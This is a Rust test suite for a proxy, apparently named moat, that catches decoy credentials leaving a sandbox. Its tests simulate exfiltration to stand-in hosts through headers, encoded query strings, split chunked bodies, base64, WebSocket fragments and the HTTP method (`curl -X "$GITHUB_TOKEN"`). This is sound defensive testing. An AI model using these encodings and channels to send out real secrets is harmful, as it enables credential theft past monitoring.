//! Decoy credentials at the proxy (issue #21), as attacks: a unique decoy rides out of the
//! client in a header, the query (percent-encoded), a JSON body split across two chunks,
//! base64 inside a larger body at each alignment, and a WebSocket frame. Each time the
//! loopback upstream records every byte it receives, and must never have received the
//! decoy (nor, for a split body, its first half); the client is refused or cut off; a
//! `decoy_tripped` event names where, and no event, trace line or log holds the value.
//! A 50 MiB upload without a decoy passes intact while the proxy's memory stays bounded.
//! THREATS E3 (exfiltration through the proxy, the run's one way out), D3 (WebSocket
//! frames), D5 (a large body streams with bounded memory), B5 (no value in any artifact).

mod common;
use common::*;
use moat_testkit::{TestEnv, contains};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// A decoy with the characters the encodings change (`/`, `+`), unique per test.
fn decoy() -> String {
    format!(
        "wJa{}/Kx+{}/Q",
        moat_core::hex(&moat_core::random_bytes::<12>()),
        moat_core::hex(&moat_core::random_bytes::<8>())
    )
}

fn rules(d: &str, on_trip: &str) -> String {
    serde_json::json!({"v":1,"type":"decoy","name":"bait","like":"aws","values":[d],"on_trip":on_trip})
        .to_string()
        + "\n"
}

/// A loopback upstream that records every byte it receives, answers each complete request
/// with 200 and a WebSocket upgrade with 101 (then only records).
#[derive(Clone, Default)]
struct Raw {
    port: u16,
    got: Arc<Mutex<Vec<u8>>>,
    /// Total bytes received, for uploads too large to keep.
    total: Arc<AtomicUsize>,
    keep: bool,
}

fn find(h: &[u8], n: &[u8]) -> Option<usize> {
    h.windows(n.len()).position(|w| w == n)
}

fn raw_upstream(keep: bool) -> Raw {
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let r = Raw {
        port: l.local_addr().unwrap().port(),
        keep,
        ..Default::default()
    };
    let r2 = r.clone();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let r = r2.clone();
            std::thread::spawn(move || {
                let mut cur: Vec<u8> = vec![];
                let mut ws = false;
                let mut buf = vec![0u8; 64 * 1024];
                let mut body_left: Option<usize> = None;
                loop {
                    let n = match s.read(&mut buf) {
                        Ok(0) | Err(_) => return,
                        Ok(n) => n,
                    };
                    r.total.fetch_add(n, Ordering::SeqCst);
                    if r.keep {
                        r.got.lock().unwrap().extend_from_slice(&buf[..n]);
                    }
                    if ws {
                        continue;
                    }
                    if let Some(left) = body_left.as_mut() {
                        *left = left.saturating_sub(n);
                        if *left == 0 {
                            body_left = None;
                            let _ = s.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok");
                        }
                        continue;
                    }
                    cur.extend_from_slice(&buf[..n]);
                    let Some(end) = find(&cur, b"\r\n\r\n") else {
                        continue;
                    };
                    let head = String::from_utf8_lossy(&cur[..end]).to_ascii_lowercase();
                    if head.contains("upgrade: websocket") {
                        ws = true;
                        let _ = s.write_all(b"HTTP/1.1 101 Switching Protocols\r\nupgrade: websocket\r\nconnection: upgrade\r\nsec-websocket-accept: x\r\n\r\n");
                        continue;
                    }
                    let body = cur.len() - end - 4;
                    let cl = head
                        .lines()
                        .find_map(|l| l.strip_prefix("content-length:"))
                        .and_then(|v| v.trim().parse::<usize>().ok());
                    let done = if head.contains("transfer-encoding: chunked") {
                        cur.ends_with(b"0\r\n\r\n")
                    } else if let Some(cl) = cl {
                        if body < cl {
                            body_left = Some(cl - body);
                            cur.clear();
                            continue;
                        }
                        true
                    } else {
                        true
                    };
                    if done {
                        cur.clear();
                        let _ = s.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok");
                    }
                }
            });
        }
    });
    r
}

impl Raw {
    fn got(&self) -> Vec<u8> {
        self.got.lock().unwrap().clone()
    }
}

fn auth(p: &Proxy) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(format!("moat:{}", p.token))
}

/// Send `parts` through the proxy on one connection, pausing between them so each leaves
/// as its own read; return everything the proxy answers until it closes.
fn send(p: &Proxy, parts: &[Vec<u8>]) -> String {
    let mut s = TcpStream::connect(&p.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    for (i, part) in parts.iter().enumerate() {
        if i > 0 {
            std::thread::sleep(Duration::from_millis(300));
        }
        if s.write_all(part).is_err() {
            break;
        }
    }
    let mut out = vec![];
    let _ = s.read_to_end(&mut out);
    String::from_utf8_lossy(&out).into_owned()
}

fn head(p: &Proxy, method: &str, target: &str, extra: &str) -> Vec<u8> {
    format!(
        "{method} http://up.example{target} HTTP/1.1\r\nHost: up.example\r\nProxy-Authorization: Basic {}\r\nConnection: close\r\n{extra}\r\n",
        auth(p)
    )
    .into_bytes()
}

fn start(env: &TestEnv, up: &Raw, rules: &str) -> Proxy {
    let ct = format!("up.example:80:127.0.0.1:{}", up.port);
    Proxy::start(env, rules, &["--connect-to", &ct])
}

fn tripped(p: &Proxy) -> Vec<serde_json::Value> {
    tripped_n(p, 1)
}

/// The `decoy_tripped` events, once there are at least `n` (or after 5 s).
fn tripped_n(p: &Proxy, n: usize) -> Vec<serde_json::Value> {
    for _ in 0..100 {
        let e: Vec<_> = p
            .events()
            .into_iter()
            .filter(|e| e["type"] == "decoy_tripped")
            .collect();
        if e.len() >= n {
            return e;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    tripped_now(p)
}

/// A decoy in a header of an intercepted HTTPS request: nothing reaches the upstream, the
/// client gets 403, the event names the header; under `stop` every later request is refused.
#[test]
fn header_hit_over_https_sends_nothing_and_stops() {
    let env = TestEnv::new();
    let d = decoy();
    let (up, ca) = granted_upstream(&env, "api.example", &[b"http/1.1"]);
    let p = Proxy::to_upstream(&env, &rules(&d, "stop"), "api.example", up.port(), &ca);
    let moat_ca = p.ca.to_str().unwrap().to_string();
    let h = format!("X-Api-Key: {d}");
    let o = curl(
        &env,
        &[
            "-x",
            &p.url(),
            "--cacert",
            &moat_ca,
            "-w",
            "%{http_code}",
            "-H",
            &h,
            "https://api.example/v1",
        ],
    );
    assert!(o.stdout.ends_with("403"), "{} {}", o.stdout, o.stderr);
    assert!(o.stdout.contains("decoy"), "{}", o.stdout);
    assert!(up.seen().is_empty(), "the upstream got {:?}", up.seen());
    let e = tripped(&p);
    assert_eq!(e[0]["where"], "header");
    assert_eq!(e[0]["header"], "x-api-key");
    assert_eq!(e[0]["decoy"], "bait");
    assert_eq!(e[0]["host"], "api.example");
    // Stopped: a clean request is refused too, and still nothing reaches the upstream.
    let o = curl(
        &env,
        &[
            "-x",
            &p.url(),
            "--cacert",
            &moat_ca,
            "-w",
            "%{http_code}",
            "https://api.example/ok",
        ],
    );
    assert!(o.stdout.ends_with("403"), "{}", o.stdout);
    assert!(up.seen().is_empty());
    p.assert_no_leak(&d);
}

/// A fully percent-encoded decoy in the query, and one encoded only in part: refused before
/// anything is sent; under `block` a clean request afterwards goes through.
#[test]
fn query_hit_percent_encoded_is_blocked_and_the_run_goes_on() {
    let env = TestEnv::new();
    let d = decoy();
    let up = raw_upstream(true);
    let p = start(&env, &up, &rules(&d, "block"));
    let full: String = d.bytes().map(|b| format!("%{b:02x}")).collect();
    let part = d.replace('/', "%2F").replace('+', "%2B");
    for q in [full, part] {
        let r = send(&p, &[head(&p, "GET", &format!("/x?token={q}&a=1"), "")]);
        assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    }
    let r = send(&p, &[head(&p, "GET", &format!("/files/{d}/x"), "")]);
    assert!(r.starts_with("HTTP/1.1 403"), "{r}");
    assert!(
        up.got().is_empty(),
        "{}",
        String::from_utf8_lossy(&up.got())
    );
    let e = tripped_n(&p, 3);
    assert_eq!(e[0]["where"], "query");
    assert_eq!(e[0]["action"], "block");
    assert_eq!(e[2]["where"], "path");
    let r = send(&p, &[head(&p, "GET", "/fine?a=1", "")]);
    assert!(r.starts_with("HTTP/1.1 200"), "{r}");
    assert!(contains(&up.got(), b"/fine?a=1"));
    // The trace has the refused requests, their query replaced.
    let t = p.wait_trace(4);
    assert!(
        t.iter()
            .any(|r| r["url"].as_str().unwrap().ends_with("/x?[decoy]")),
        "{t:?}"
    );
    p.assert_no_leak(&d);
    let part = d.replace('/', "%2F").replace('+', "%2B");
    let full: String = d.bytes().map(|b| format!("%{b:02x}")).collect();
    let trace = std::fs::read_to_string(&p.trace).unwrap();
    assert!(!trace.contains(&part) && !trace.contains(&full));
}

/// A JSON body (with `\/` escapes) whose decoy is split across two chunks of a chunked
/// upload: the upstream never receives any of the decoy, not even its first half.
#[test]
fn body_hit_split_across_chunks_never_reaches_the_upstream() {
    let env = TestEnv::new();
    let d = decoy();
    let up = raw_upstream(true);
    let p = start(&env, &up, &rules(&d, "stop"));
    let j = d.replace('/', "\\/");
    let (a, b) = j.split_at(j.len() / 2);
    let c1 = format!("{{\"note\":\"hello\",\"key\":\"{a}");
    let c2 = format!("{b}\"}}");
    let chunk = |s: &str| format!("{:x}\r\n{s}\r\n", s.len()).into_bytes();
    let r = send(
        &p,
        &[
            head(
                &p,
                "POST",
                "/upload",
                "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n",
            ),
            chunk(&c1),
            [chunk(&c2), b"0\r\n\r\n".to_vec()].concat(),
        ],
    );
    assert!(!r.contains(" 200 "), "{r}");
    let got = up.got();
    assert!(!contains(&got, j.as_bytes()) && !contains(&got, d.as_bytes()));
    assert!(
        !contains(&got, a.as_bytes()),
        "the upstream got the decoy's first half"
    );
    let e = tripped(&p);
    assert_eq!(e[0]["where"], "body");
    assert_eq!(e[0]["encoding"], "json");
    p.assert_no_leak(&d);
}

/// base64 (and base64url) of the decoy inside a larger body, at each of the three
/// alignments: refused, and the encoded decoy never reaches the upstream.
#[test]
fn body_hit_base64_at_every_alignment() {
    use base64::Engine;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE};
    let env = TestEnv::new();
    let d = decoy();
    let up = raw_upstream(true);
    let p = start(&env, &up, &rules(&d, "block"));
    let mut n = 0;
    for (eng, name) in [(STANDARD, "base64"), (URL_SAFE, "base64url")] {
        for pre in ["", "x", "xy"] {
            let enc = eng.encode(format!("{pre}{d} and more text after it"));
            let body = format!("{}{{\"blob\":\"{enc}\"}}", "a".repeat(5000));
            let r = send(
                &p,
                &[[
                    head(
                        &p,
                        "POST",
                        "/b",
                        &format!("Content-Length: {}\r\n", body.len()),
                    ),
                    body.into_bytes(),
                ]
                .concat()],
            );
            assert!(r.starts_with("HTTP/1.1 403"), "{name} {pre:?}: {r}");
            n += 1;
            // Each refusal has its event (read from the proxy's stdout as it comes).
            assert_eq!(tripped_n(&p, n).len(), n, "{name} {pre:?}");
            let mid = &enc[8..enc.len() - 40];
            assert!(
                !contains(&up.got(), mid.as_bytes()),
                "{name} {pre:?} reached the upstream"
            );
        }
    }
    let e = tripped_n(&p, 6);
    assert_eq!(e.len(), 6);
    assert!(e.iter().all(|e| e["where"] == "body"));
    // A stretch without `-_` or `+/` reads the same in both alphabets.
    assert!(
        e.iter()
            .all(|e| e["encoding"].as_str().unwrap().starts_with("base64")),
        "{e:?}"
    );
    p.assert_no_leak(&d);
}

fn ws_frame(fin: bool, op: u8, payload: &[u8]) -> Vec<u8> {
    // A zero mask key: the payload is plain on the wire, so an unscanned frame would carry
    // the decoy to the upstream as is.
    let mut f = vec![if fin { 0x80 } else { 0 } | op, 0x80 | payload.len() as u8];
    f.extend_from_slice(&[0, 0, 0, 0]);
    f.extend_from_slice(payload);
    f
}

/// A decoy in a client's WebSocket message, split over two fragments: the connection is
/// cut before any of it is forwarded; the message before it went through.
#[test]
fn websocket_frame_hit_cuts_the_connection() {
    let env = TestEnv::new();
    let d = decoy();
    let up = raw_upstream(true);
    let p = start(&env, &up, &rules(&d, "stop"));
    let mut s = TcpStream::connect(&p.addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.write_all(&head(
        &p,
        "GET",
        "/ws",
        "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Extensions: permessage-deflate\r\n",
    ))
    .unwrap();
    let mut resp = vec![0u8; 4096];
    let n = s.read(&mut resp).unwrap();
    assert!(String::from_utf8_lossy(&resp[..n]).starts_with("HTTP/1.1 101"));
    let (a, b) = d.split_at(d.len() / 2);
    s.write_all(&ws_frame(true, 1, b"hello-before")).unwrap();
    std::thread::sleep(Duration::from_millis(300));
    s.write_all(&ws_frame(false, 1, format!("k={a}").as_bytes()))
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    let _ = s.write_all(&ws_frame(true, 0, format!("{b}!").as_bytes()));
    let mut rest = vec![];
    let _ = s.read_to_end(&mut rest);
    let e = tripped(&p);
    assert_eq!(e[0]["where"], "websocket");
    let got = up.got();
    assert!(contains(&got, b"hello-before"), "clean frames pass");
    // No compression is offered upstream: compressed frames could not be searched.
    assert!(!contains(&got, b"permessage-deflate"));
    assert!(!contains(&got, a.as_bytes()) && !contains(&got, d.as_bytes()));
    p.assert_no_leak(&d);
}

/// `log`: the request goes through as sent, decoy included, and the event says so.
#[test]
fn log_records_and_lets_the_decoy_through() {
    let env = TestEnv::new();
    let d = decoy();
    let up = raw_upstream(true);
    let p = start(&env, &up, &rules(&d, "log"));
    let r = send(&p, &[head(&p, "GET", "/l", &format!("X-Token: {d}\r\n"))]);
    assert!(r.starts_with("HTTP/1.1 200"), "{r}");
    assert!(
        contains(&up.got(), d.as_bytes()),
        "log sends the decoy upstream"
    );
    let e = tripped(&p);
    assert_eq!(
        (e[0]["where"].as_str(), e[0]["action"].as_str()),
        (Some("header"), Some("log"))
    );
    // A later request is not refused.
    let r = send(&p, &[head(&p, "GET", "/after", "")]);
    assert!(r.starts_with("HTTP/1.1 200"), "{r}");
}

fn rss_kib(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap_or_default()
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or(0)
}

/// 50 MiB without a decoy streams through the scanner intact (every byte reaches the
/// upstream, in order) while the proxy's resident memory stays under 64 MiB.
#[test]
fn large_clean_upload_streams_with_bounded_memory() {
    let env = TestEnv::new();
    let d = decoy();
    let up = raw_upstream(true);
    let p = start(&env, &up, &rules(&d, "stop"));
    let size = 50 * 1024 * 1024;
    let file = env.path().join("big.bin");
    {
        let mut f = std::io::BufWriter::new(std::fs::File::create(&file).unwrap());
        let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut block = vec![0u8; 1 << 20];
        for _ in 0..50 {
            for c in block.chunks_mut(8) {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                c.copy_from_slice(&x.to_le_bytes()[..c.len()]);
            }
            f.write_all(&block).unwrap();
        }
    }
    let pid = p.child.id();
    let peak = Arc::new(AtomicUsize::new(0));
    let done = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let (pk, dn) = (peak.clone(), done.clone());
    let sampler = std::thread::spawn(move || {
        while !dn.load(Ordering::SeqCst) {
            pk.fetch_max(rss_kib(pid) as usize, Ordering::SeqCst);
            std::thread::sleep(Duration::from_millis(20));
        }
    });
    let o = env
        .program("curl")
        .args(["-sS", "--max-time", "300", "--noproxy", "", "-x", &p.url()])
        .args([
            "-w",
            "%{http_code}",
            "-H",
            "Content-Type: application/octet-stream",
        ])
        .arg("--data-binary")
        .arg(format!("@{}", file.display()))
        .arg("http://up.example/big")
        .output()
        .unwrap();
    done.store(true, Ordering::SeqCst);
    sampler.join().unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(
        out.ends_with("200"),
        "{out} {}",
        String::from_utf8_lossy(&o.stderr)
    );
    let got = up.got();
    let start = find(&got, b"\r\n\r\n").unwrap() + 4;
    assert_eq!(got.len() - start, size, "the upload arrived short or long");
    assert!(
        got[start..] == std::fs::read(&file).unwrap()[..],
        "the upload arrived changed"
    );
    assert!(tripped_now(&p).is_empty());
    let peak = peak.load(Ordering::SeqCst);
    assert!(
        peak > 0 && peak < 64 * 1024,
        "proxy RSS peaked at {peak} KiB"
    );
}

fn tripped_now(p: &Proxy) -> Vec<serde_json::Value> {
    p.events()
        .into_iter()
        .filter(|e| e["type"] == "decoy_tripped")
        .collect()
}

/// A token-shaped decoy sent as the request method (`curl -X "$GITHUB_TOKEN"`: any token is a
/// legal extension method) is found like one in a header: nothing reaches the upstream,
/// and no record holds the value (the trace writes the method as `[decoy]`). THREATS E3.
#[test]
fn method_hit_sends_nothing_and_records_no_value() {
    let env = TestEnv::new();
    let d = format!("ghp_{}", moat_core::hex(&moat_core::random_bytes::<15>()));
    let (up, ca) = granted_upstream(&env, "api.example", &[b"http/1.1"]);
    let p = Proxy::to_upstream(&env, &rules(&d, "block"), "api.example", up.port(), &ca);
    let moat_ca = p.ca.to_str().unwrap().to_string();
    let o = curl(
        &env,
        &[
            "-x",
            &p.url(),
            "--cacert",
            &moat_ca,
            "-w",
            "%{http_code}",
            "-X",
            &d,
            "https://api.example/v1",
        ],
    );
    assert!(o.stdout.ends_with("403"), "{} {}", o.stdout, o.stderr);
    assert!(up.seen().is_empty(), "the upstream got {:?}", up.seen());
    let e = tripped(&p);
    assert_eq!(e[0]["where"], "method");
    assert_ne!(e[0]["method"], d.as_str());
    p.assert_no_leak(&d);
}
